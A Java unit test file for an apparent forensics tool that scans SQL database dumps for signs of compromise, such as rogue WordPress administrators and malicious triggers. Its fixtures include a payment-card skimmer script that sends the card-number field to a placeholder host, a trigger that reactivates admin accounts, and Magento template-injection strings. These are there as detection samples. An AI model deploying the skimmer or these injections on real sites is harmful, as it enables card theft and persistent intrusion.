package org.evenkeel.forensics.database;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.zip.GZIPOutputStream;
import org.evenkeel.forensics.investigation.Artifact;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class DatabaseDumpTest {
  @TempDir Path folder;

  private DatabaseDump.Report search(String dump) throws IOException {
    Path file = folder.resolve("dump.sql.gz");
    try (OutputStream out = new GZIPOutputStream(Files.newOutputStream(file))) {
      out.write(dump.getBytes(StandardCharsets.UTF_8));
    }
    return DatabaseDump.search(file);
  }

  @Test
  void anAdministratorPutInPastWordPressIsTold() throws IOException {
    assertThat(
            search(
                    """
                    CREATE TABLE `wp_usermeta` (`umeta_id` bigint, `user_id` bigint, `meta_key` varchar(255), `meta_value` longtext, PRIMARY KEY (`umeta_id`));
                    INSERT INTO `wp_usermeta` VALUES (1,1,'nickname','anna'),(2,1,'wp_capabilities','a:1:{s:13:\\"administrator\\";b:1;}'),(3,2,'wp_capabilities','a:1:{s:13:\\"administrator\\";b:1;}');
                    CREATE TABLE `wp_users` (`ID` bigint, `user_login` varchar(60), `user_pass` varchar(255), `user_email` varchar(100), `user_registered` datetime);
                    INSERT INTO `wp_users` VALUES (1,'anna','$P$Bx','anna@shop.example','2024-01-01 10:00:00'),(2,'maria','0123456789abcdef0123456789abcdef','m@x.example','2020-01-01 00:00:00');
                    """)
                .artifacts())
        .singleElement()
        .satisfies(artifact -> assertThat(artifact.why()).contains("'maria'"));
  }

  @Test
  void aSkimmerInASettingIsTold() throws IOException {
    assertThat(
            search(
                    """
                    CREATE TABLE `core_config_data` (`config_id` int, `path` varchar(255), `value` text);
                    INSERT INTO `core_config_data` VALUES (1,'web/url','https://shop.example/'),(2,'design/head/includes','<script>new Image().src=\\'https://c.invalid/?\\'+btoa(document.getElementById(\\'cc-number\\').value)</script>');
                    """)
                .artifacts())
        .singleElement()
        .extracting(Artifact::where)
        .isEqualTo("core_config_data.value, row 2");
  }

  @Test
  void aTriggerIsToldButNotMagentosChangeLog() throws IOException {
    assertThat(
            search(
                    """
                    DELIMITER ;;
                    /*!50003 CREATE*/ /*!50017 DEFINER=`a`@`b`*/ /*!50003 TRIGGER `trg_x_after_insert` AFTER INSERT ON `x` FOR EACH ROW BEGIN INSERT IGNORE INTO `x_cl` (`id`) VALUES (NEW.`id`); END */;;
                    /*!50003 CREATE*/ /*!50003 TRIGGER `keep` AFTER INSERT ON `sales_order` FOR EACH ROW BEGIN UPDATE `admin_user` SET is_active = 1; END */;;
                    DELIMITER ;
                    """)
                .artifacts())
        .extracting(Artifact::where)
        .containsExactly("trigger keep");
  }

  @Test
  void rowsThatPostgresCopiesAreRead() throws IOException {
    assertThat(
            search(
                    """
                    SET standard_conforming_strings = on;
                    COPY public.customer_note (id, note) FROM stdin;
                    1\thello
                    2\t{{var this.getTemplateFilter().filter(x)}}
                    \\.
                    """)
                .artifacts())
        .extracting(Artifact::kind)
        .containsExactly("injected-template");
  }

  @Test
  void aShopsDirectiveInACustomersNameIsTemplateTextAndNoneInAShopsTemplate() throws IOException {
    assertThat(
            search(
                    """
                    CREATE TABLE `sales_order` (`entity_id` int, `customer_firstname` text);
                    INSERT INTO `sales_order` VALUES (7,'{{block class=\\'x\\' template=x}}');
                    CREATE TABLE `newsletter_template` (`id` int, `text` text);
                    INSERT INTO `newsletter_template` VALUES (1,'{{block class=\\'Footer\\'}}');
                    """)
                .artifacts())
        .extracting(Artifact::where)
        .containsExactly("sales_order.customer_firstname, row 7");
  }

  @Test
  void aFileWithoutRowsIsRefused() throws IOException {
    assertThat(search("hello").refused()).hasSize(1);
  }
}
